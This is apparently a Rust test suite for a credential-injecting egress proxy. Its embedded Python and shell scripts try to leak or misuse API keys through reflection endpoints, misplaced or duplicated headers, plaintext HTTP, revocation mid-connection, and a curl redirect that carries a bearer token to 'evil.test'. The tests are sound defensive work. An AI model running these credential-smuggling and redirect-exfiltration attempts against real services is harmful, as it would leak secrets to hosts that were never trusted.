//! Credentials that are asked for where they do not belong, or after they are gone.

use ftl_tests::online::{HOST, KEY, Online, Setup};
use ftl_tests::upstream::ENCODINGS;

use super::{KEPT, Waiting, attack, nothing_leaked, online};

pub(super) fn what_a_host_reflects_comes_back_as_the_shadow_in_every_encoding_and_chunking(setup: Setup) {
    let online = online(setup);
    let encodings = ENCODINGS.join(" ");
    let said = attack(
        &online,
        &format!(
            "connection = http.client.HTTPSConnection(HOST, timeout=PATIENCE)
def reflect(path, headers=None):
    connection.request('GET', path, headers={{**bearer(), **(headers or {{}})}})
    reply = connection.getresponse()
    print(path, reply.status, reply.getheaders(), reply.read().decode('latin-1'))
for encoding in '{encodings}'.split():
    for cut in ['', '?cut=each'] + ['?cut=%d' % at for at in range(1, 120)]:
        reflect('/reflect/' + encoding + cut)
reflect('/reflect/header')
reflect('/echo')
for first in range(0, 60, 4):
    reflect('/reflect/raw', {{'Range': 'bytes=%d-%d' % (first, first + 3)}})
status, headers, body = get('/reflect/gzip', {{**bearer(), 'Accept-Encoding': 'gzip'}})
if headers.get('Content-Encoding') == 'gzip':
    import gzip
    body = gzip.decompress(body)
print('gzip', status, body)"
        ),
    );
    let shadow = online.shadow(KEY);
    assert!(said.out.lines().filter(|line| line.contains(&shadow)).count() > 200, "{said:#?}");
    assert!(online.upstream.at("/reflect/raw").len() > 100);
    for seen in online.upstream.seen() {
        assert!(seen.all("range").is_empty(), "fragments would be below the length that is found: {seen:#?}");
    }
    nothing_leaked(&online);
}

pub(super) fn a_shadow_in_the_wrong_place_never_becomes_real(setup: Setup) {
    let online = online(setup);
    let said = attack(
        &online,
        "quoted = ''.join('%%%02X' % byte for byte in KEY.encode())
def both(path, headers=None, **more):
    for host in (HOST, OTHER):
        answer = get(path, headers, host=host, **more)
        print(host, path, answer[0], str(answer[2])[:200])
    return answer
both('/wrong/bearer-elsewhere-only', None)
assert get('/wrong/host', bearer(), host=OTHER)[0] == 403
encoded = base64.b64encode(('user:' + KEY).encode()).decode()
for headers in [{'Authorization': 'Basic ' + encoded}, {'Authorization': KEY}, {'Authorization': 'Token ' + KEY}, {'X-Api-Key': KEY},
    {'X-Other': KEY}, {'X-Other': 'before ' + KEY + ' after'}, {'X-Other': encoded}, {'Cookie': 'a=' + KEY}, {'X-Other': quoted},
    {'Authorization': 'Bearer  ' + KEY}, {'Authorization': 'Bearer ' + KEY + 'x'}, {'Authorization': 'Bearer ' + KEY[:-1]},
    {'Authorization': 'Bearer ' + KEY + ', Bearer ' + KEY}, {'Proxy-Authorization': 'Bearer ' + KEY}, {'User-Agent': KEY}]:
    both('/wrong/header', headers)
for path in ['/wrong/query?key=' + quoted, '/wrong/query?access_token=' + quoted, '/wrong/' + quoted, '/wrong/x?' + quoted]:
    both(path, bearer() if False else None)
    get(path, bearer())
for body in [KEY, json.dumps({'key': KEY}), 'key=' + quoted, encoded]:
    status_of, _, answer = get('/wrong/body', bearer(), method='POST', body=body)
    assert status_of == 200, (status_of, answer)
    both('/wrong/body', None, method='POST', body=body)
auth = b'Authorization: Bearer ' + KEY.encode() + b'\\r\\n'
for lines in [auth + auth, auth + b'authorization: Bearer foreign\\r\\n', b'Authorization: Bearer foreign\\r\\n' + auth,
    auth + b'X-Api-Key: foreign\\r\\n', b'Authorization:\\r\\n Bearer ' + KEY.encode() + b'\\r\\n']:
    answer = through(head_of(b'/wrong/twice', lines) + b'\\r\\n')
    print(answer[:80])
    assert status(answer) != 200, answer
for headers in [bearer('foreign'), {'X-Api-Key': 'foreign'}, {'Authorization': 'Basic ' + base64.b64encode(b'a:b').decode()}]:
    answer = get('/wrong/foreign', headers)
    assert answer[0] == 403, answer
# Never without TLS.
for host in (HOST, OTHER):
    stream = opened()
    stream.sendall(b'GET http://' + host.encode() + b'/wrong/plain HTTP/1.1\\r\\nHost: ' + host.encode() + b'\\r\\nConnection: close\\r\\n' + auth + b'\\r\\n')
    assert status(rest(stream)) != 200
    stream = opened((host, 80))
    stream.sendall(head_of(b'/wrong/plain', auth, host) + b'\\r\\n')
    assert status(rest(stream)) != 200",
    );
    for path in ["/wrong/host", "/wrong/twice", "/wrong/foreign", "/wrong/plain"] {
        assert!(online.upstream.at(path).is_empty(), "{path}: {said:#?} {:#?}", online.upstream.seen());
    }
    nothing_leaked(&online);
    let rows = online.world.json_lines(0, ["logs", "--egress", "--session", online.session()]);
    for reason in ["shadow_elsewhere", "foreign_credential"] {
        assert!(rows.iter().any(|row| row["reason"] == reason), "{reason}: {rows:#?}");
    }
}

pub(super) fn a_redirect_is_a_new_decision(setup: Setup) {
    let online = online(setup);
    let said = online.inside(
        "for to in https://other.example.com/away https://evil.test/away http://api.example.com/away; do
        curl -s -L --location-trusted -H \"Authorization: Bearer $TEST_API_KEY\" \"https://api.example.com/redirect?to=$to\"
        done; true",
    );
    assert_eq!(said.code, 0, "{said:#?}");
    assert!(online.upstream.at("/away").is_empty(), "{said:#?} {:#?}", online.upstream.seen());
    assert_eq!(online.upstream.at("/redirect").len(), 3, "{said:#?}");
    nothing_leaked(&online);
}

/// One connection, two requests, and something happens between them; gives the second one's status.
fn between_two_requests(online: &Online, variable: &str, happens: impl FnOnce()) -> String {
    let script = format!(
        "import os
connection = http.client.HTTPSConnection(HOST, timeout=PATIENCE)
connection.auto_open = 1
def ask(path):
    connection.request('GET', path, headers=bearer(os.environ['{variable}']))
    reply = connection.getresponse()
    reply.read()
    return reply.status
print(ask('/first'))
sys.stdin.readline()
try:
    connection.auto_open = 0
    print(ask('/second'))
except (OSError, http.client.HTTPException) as error:
    print('closed', repr(error))
connection.close()
connection.auto_open = 1
try:
    print(ask('/second'))
except (OSError, http.client.HTTPException) as error:
    print('closed', repr(error))"
    );
    let mut waiting = Waiting::start(online, &script);
    assert_eq!(waiting.line(), "200\n");
    happens();
    waiting.go_on();
    let (same, new) = (waiting.line(), waiting.line());
    assert_eq!(waiting.line(), "the end\n", "{same} {new}");
    assert!(waiting.child.wait().unwrap().success());
    assert_eq!(online.upstream.at("/first").len(), 1);
    format!("{same}{new}")
}

pub(super) fn what_is_revoked_on_an_open_connection_is_gone_from_the_next_request_on(setup: Setup) {
    let online = online(setup);
    let said = between_two_requests(&online, KEY, || {
        online.world.ok(["policy", "deny", HOST]);
    });
    assert!(!said.contains("200"), "{said}");
    assert!(online.upstream.at("/second").is_empty(), "{said} {:#?}", online.upstream.seen());
}

pub(super) fn a_credential_that_is_removed_on_an_open_connection_is_gone_from_the_next_request_on(
    mut setup: Setup,
) {
    setup.stored.push(("KEPT_TOKEN".into(), KEPT.into()));
    let header = "Authorization: Bearer {}";
    let online = setup
        .command(["secret", "bind", "KEPT_TOKEN", "--host", HOST, "--header", header, "--optional"])
        .start();
    let said = between_two_requests(&online, "KEPT_TOKEN", || {
        let wanted = format!("Bearer {KEPT}");
        assert_eq!(online.upstream.at("/first")[0].header("authorization"), Some(wanted.as_str()));
        online.world.ok(["secret", "rm", "KEPT_TOKEN"]);
    });
    assert!(!said.contains("200"), "{said}");
    assert!(online.upstream.at("/second").is_empty(), "{said} {:#?}", online.upstream.seen());
}
